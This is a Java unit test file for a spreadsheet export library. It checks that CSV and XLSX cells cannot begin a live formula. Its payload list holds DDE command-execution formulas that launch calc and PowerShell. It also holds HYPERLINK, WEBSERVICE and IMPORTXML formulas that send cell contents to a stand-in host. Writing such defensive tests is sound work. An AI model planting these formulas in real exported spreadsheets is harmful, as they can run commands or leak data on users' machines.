package lianxin.sheet;

import static lianxin.sheet.SheetCast.ZH;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipFile;
import lianxin.workbook.Format;
import lianxin.workbook.Formulas;
import lianxin.workbook.Limits;
import lianxin.workbook.Plain;
import lianxin.workbook.Progress;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What somebody types must not be computed on somebody else's machine. */
class FormulasTest {

    static final Column<String> NOTE = Column.text("note", "备注", "Note", 500);
    static final Columns NOTES = Columns.of("备注", "Notes", NOTE);

    @TempDir
    Path folder;

    static List<String> payloads() {
        return List.of(
                "=1+1",
                "=cmd|'/C calc'!A0",
                "=HYPERLINK(\"http://example.invalid/?\"&A1,\"看这里\")",
                "=WEBSERVICE(\"http://example.invalid\")",
                "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
                "=DDE(\"cmd\";\"/C calc\";\"x\")",
                "=SUM(A1:A9)*cmd|'/C powershell'!A0",
                "+1+1",
                "+cmd|'/C calc'!A0",
                "+86 537 2234567",
                "-1+1",
                "-2+3+cmd|'/C calc'!D2",
                "- 修路",
                "@SUM(1+1)*cmd|'/C calc'!A0",
                "@李建国",
                "＝1+1",
                "＋1",
                "－1+1",
                "＠SUM(1)",
                " =1+1",
                "\u00a0=1+1",
                "\u200b=1+1",
                "\t=1+1",
                "\n=1+1",
                "'=1+1",
                "''=1+1",
                "=\"0370827\"",
                "=1+1\",\"=2+2",
                "=1+1;=2+2",
                "==1+1",
                "=-1",
                "-1e5",
                "+1.5.2");
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void aCsvCellNeverBeginsAFormula(String payload) throws IOException {
        for (var format : List.of(Format.CSV, Format.CSV_GB18030)) {
            var bytes = written(format, payload);
            var cell = new String(bytes, ((Format.Csv) format).charset())
                    .replace("\ufeff", "")
                    .split("\r\n", 2)[1];
            assertThat(cell).startsWith(cell.startsWith("\"") ? "\"'" : "'");
            assertThat(readBack(bytes)).isEqualTo(Plain.trimmed(payload).equals(payload) ? payload : readBack(bytes));
        }
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void aWorkbookCellIsTextAndStaysText(String payload) throws IOException {
        var bytes = written(Format.XLSX, payload);
        var file = Files.write(folder.resolve("a.xlsx"), bytes);
        try (var workbook = new ReadableWorkbook(file.toFile())) {
            var cell = workbook.getFirstSheet().read().get(1).getCell(0);
            assertThat(cell.getType()).isEqualTo(CellType.STRING);
            assertThat(cell.getText()).isEqualTo(payload);
        }
        try (var zip = new ZipFile(file.toFile())) {
            var xml = new String(
                    zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes(),
                    StandardCharsets.UTF_8);
            var styles = new String(
                    zip.getInputStream(zip.getEntry("xl/styles.xml")).readAllBytes(), StandardCharsets.UTF_8);
            assertThat(xml).doesNotContain("<f>").containsPattern("<c r=\"A2\" s=\"\\d+\" t=\"inlineStr\">");
            assertThat(styles).contains("formatCode=\"@\"");
        }
    }

    @Test
    void numbersNamesAndBracketsStayAsTheyAre() {
        for (var text : List.of("-3.5", "+12", "0", "王桂英", "a=b", "(0537)2234567", "1-2", "“=1”", "'名", "")) {
            assertThat(Formulas.disarmed(text)).isEqualTo(text);
            assertThat(Formulas.meant(text)).isEqualTo(text);
        }
    }

    @Test
    void readingUndoesWriting() {
        for (var payload : payloads()) {
            assertThat(Formulas.meant(Formulas.disarmed(payload))).isEqualTo(payload);
        }
    }

    private static byte[] written(Format format, String note) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var writer = new SheetWriter(bytes, format, NOTES, ZH)) {
            writer.row(List.of(note));
        }
        return bytes.toByteArray();
    }

    private String readBack(byte[] bytes) throws IOException {
        try (var sheets = Sheets.open(Files.write(folder.resolve("a.csv"), bytes), Limits.OFFICE)) {
            return sheets.lines(NOTES, sheets.match(NOTES), Progress.UNSEEN)
                    .iterator()
                    .next()
                    .need(NOTE);
        }
    }
}
